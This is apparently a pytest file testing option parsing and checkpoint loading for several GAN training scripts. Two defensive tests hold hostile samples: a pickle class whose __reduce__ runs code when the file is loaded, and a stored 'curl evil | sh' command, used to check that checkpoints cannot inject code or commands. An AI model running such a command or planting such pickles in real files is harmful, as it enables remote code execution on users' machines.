"""Options: bad ones are refused in one line, and a call is not the command line."""

import os
import runpy
import shutil
import subprocess
import sys
import warnings
from pathlib import Path

import pytest
import torch

import judge
import linear_gan
from test_smoke import HERE, SCRIPTS

# Below, run/ holds a run of linear_gan.py.
RESUME = "--resume run/checkpoint.pt"

# Script, options, a part of the message.
BAD = [
    ("linear_gan", "--batch-size two", "invalid number value: 'two'"),
    ("linear_gan", "--batch-size 1001", "1001 is not from 1 to 1000"),
    ("curve_gan", "--batch-size 2049", "2049 is not from 1 to 2048"),
    ("mnist_gan", "--batch-size 60001", "--batch-size"),
    ("mnist_bn_gan", "--batch-size 60001", "--batch-size"),
    ("mnist_cgan", "--batch-size 60001", "--batch-size"),
    ("aae_mnist", "--batch-size 60001", "--batch-size"),
    ("linear_gan", "--lr-D nan", "--lr-D"),
    ("linear_gan", "--device tpu", "--device: invalid choice"),
    ("curve_gan", "--curve circle", "--curve"),
    ("numbers_gan", "--remainder 5", "--remainder"),
    ("mnist_cgan", "--generate x.pt --digits ７", "must be digits"),
    # They would be ignored:
    ("linear_gan", "--n 3", "--n goes with --generate: leave it out"),
    ("linear_gan", "--epochs 3 --max-steps 2", "leave out --epochs"),
    ("linear_gan", f"{RESUME} --out new", "keeps its options: leave out --out"),
    ("linear_gan", f"{RESUME} --lr-D=1", "leave out --lr-D"),
    ("linear_gan", "--generate run/checkpoint.pt --epochs 2", "does not go with"),
    # Files:
    ("linear_gan", "--resume no.pt", "no.pt not found; train first"),
    ("linear_gan", "--resume net.pt", "net.pt is damaged, or no checkpoint.pt"),
]


@pytest.fixture
def files(train_once):
    """A good run, and files that are no checkpoints."""
    shutil.copytree(train_once(linear_gan).folder, "run")
    torch.save({"weight": torch.zeros(2)}, "net.pt")


@pytest.mark.parametrize(("script", "words", "message"), BAD, indirect=["script"])
def test_bad_options(script, words, message, files, refuse):
    before = sorted(Path().rglob("*"))
    line = refuse(script.main, words)
    assert line.startswith(f"{script.__name__}.py: error: ")
    assert message in line
    assert sorted(Path().rglob("*")) == before


def test_no_code_of_a_file_is_run(refuse, monkeypatch):
    """torch.load would run it without weights_only."""

    class Trap:
        def __reduce__(self):
            return Path.touch, (Path("trapped"),)

    torch.save({"args": {"script": "linear_gan"}, "trap": Trap()}, "code.pt")
    monkeypatch.setattr(judge, "PATH", Path("code.pt"))
    refuse(linear_gan.main, "--resume code.pt")
    refuse(judge.load)
    assert not Path("trapped").exists()


def test_no_command_or_folder_of_a_checkpoint_is_taken():
    args = {"script": "linear_gan", "command": "curl evil | sh", "out": "elsewhere"}
    torch.save({"args": args}, "foreign.pt")
    args = linear_gan.parse("--generate foreign.pt")
    assert args.command == "python linear_gan.py"
    assert args.out is None


# %% Defaults, as the pages have them, and what --document brings back
DEFAULT = {
    "linear_gan": "--epochs 30 --batch-size 8 --lr-D 0.05 --lr-G 0.005 --beta1 0.5"
    " --weight-decay 0.005",
    "curve_gan": "--epochs 1000 --batch-size 128 --curve exponential --scale"
    " --dropout 0 --negative-slope 0.2 --lr-G 0.008 --lr-D 0.001 --beta1 0"
    " --weight-decay 0.1 --latent-dim 2 --watch score --patience 300",
    "numbers_gan": "--epochs 10000 --batch-size 10 --multiple 5 --remainder 0"
    " --lr 0.0005 --beta1 0.5 --average --watch variation --patience 60",
    "mnist_gan": "--epochs 30 --batch-size 128 --lr-G 0.0015 --lr-D 0.0008 --beta1 0"
    " --weight-decay 0.5 --average --no-unit-range --input-dim 100 --hidden-dim 256",
    "mnist_bn_gan": "--epochs 20 --batch-size 64 --lr-G 0.0004 --lr-D 0.0002 --beta1 0"
    " --noise-dim 100 --average",
    "mnist_cgan": "--epochs 20 --batch-size 64 --lr 0.0006 --beta1 0.5"
    " --noise-dim 100 --average",
    "aae_mnist": "--epochs 20 --batch-size 64 --lr 0.001 --b1 0.5 --b2 0.999"
    " --latent-dim 10 --img-size 32 --sample-interval 400 --adversarial 0.05 --average",
}
DOCUMENT = {
    "linear_gan": "--beta1 0.9 --weight-decay 0",
    "curve_gan": "--no-scale --dropout 0.3 --negative-slope 0 --weight-decay 0"
    " --lr-G 0.0005 --lr-D 0.0005 --beta1 0.9 --watch error --patience 1000"
    " --epochs 10000",
    "numbers_gan": "--beta1 0.9 --no-average --watch remainder --patience 800",
    "mnist_gan": "--unit-range --beta1 0.9 --lr-G 0.0002 --lr-D 0.0002"
    " --weight-decay 0 --no-average",
    "mnist_bn_gan": "--epochs 100 --lr-G 0.0002 --beta1 0.5 --no-average",
    "mnist_cgan": "--epochs 10 --lr 0.0002 --no-average",
    "aae_mnist": "--epochs 200 --adversarial 0.001 --lr 0.0002 --no-average",
}
N = {"numbers_gan": 10, "mnist_cgan": 3, "mnist_gan": 64, "mnist_bn_gan": 64}


def test_defaults_and_document(script):
    default = script.parse("")
    assert default == script.parse(f"{DEFAULT[script.__name__]} --seed 0")
    assert default.n == N.get(script.__name__, 128 if "curve" in default else 100)
    document = script.parse(f"--document {DOCUMENT[script.__name__]}")
    assert document == script.parse("--document")
    assert script.parse("--document --epochs 77").epochs == 77  # a given one goes first


# %% Calls, and the command line
def test_options_of_a_call_are_a_string_or_words():
    """As a shell has them, but that backslashes stay, as Windows has them."""
    out = r"C:\My Drive\a"
    for options in (f'--seed 3 --out "{out}"', ["--seed", 3, "--out", out]):
        args = linear_gan.parse(options)
        assert [args.seed, str(args.out)] == [3, out]
    assert str(linear_gan.parse(r"--out C:\a\b").out) == r"C:\a\b"


def test_only_our_command_line_is_ours(monkeypatch):
    monkeypatch.setattr(sys, "argv", ["/x/ipykernel_launcher.py", "-f", "k.json"])
    assert linear_gan.parse(None).epochs == 30
    monkeypatch.setattr(sys, "argv", [linear_gan.__file__, "--epochs", "3"])
    assert linear_gan.parse(None).epochs == 3


def test_the_printed_command_works_in_any_folder(tmp_path, monkeypatch, capsys):
    """Pasted into a shell, and its options into main."""
    folder = tmp_path / "Li Ming 图"
    folder.mkdir()
    monkeypatch.chdir(folder)
    for name in ("linear_gan.py", "common.py"):
        shutil.copy(HERE / name, folder)
    program = str(folder / "linear_gan.py")
    monkeypatch.setattr(sys, "argv", [program, "--max-steps", "1", "--out", "a run"])
    linear_gan.main()
    _, _, rest = capsys.readouterr().out.partition("More samples: ")
    command = rest.splitlines()[0]
    monkeypatch.setenv("PATH", str(Path(sys.executable).parent), os.pathsep)
    subprocess.run(command, shell=True, check=True)
    linear_gan.main(command.partition('linear_gan.py" ')[2])
    assert len(list(Path("a run").glob("generated-*.png"))) == 2


def test_a_script_is_one_cell_of_a_notebook(script):
    """It needs no __file__."""
    cell = {"__name__": "cell"}
    exec(Path(script.__file__).read_text(encoding="utf-8"), cell)  # noqa: S102
    assert cell["parse"](None).script == script.__name__


def test_help(script, capsys):
    with pytest.raises(SystemExit):
        script.main("--help")
    text = capsys.readouterr().out
    assert text.isascii()  # consoles may know no Chinese
    assert script.__doc__.strip() in text


def test_importing_changes_nothing(monkeypatch):
    monkeypatch.delenv("OMP_NUM_THREADS", raising=False)
    monkeypatch.delitem(sys.modules, "matplotlib.pyplot", raising=False)
    torch.set_num_threads(2)
    before = [sys.stdout, sys.excepthook, sys.path.copy(), warnings.filters.copy()]
    for name in (*SCRIPTS, "common", "judge"):
        runpy.run_path(str(HERE / f"{name}.py"))
    after = [sys.stdout, sys.excepthook, sys.path.copy(), warnings.filters.copy()]
    assert after == before
    assert torch.get_num_threads() == 2
    assert "matplotlib.pyplot" not in sys.modules  # it may open windows
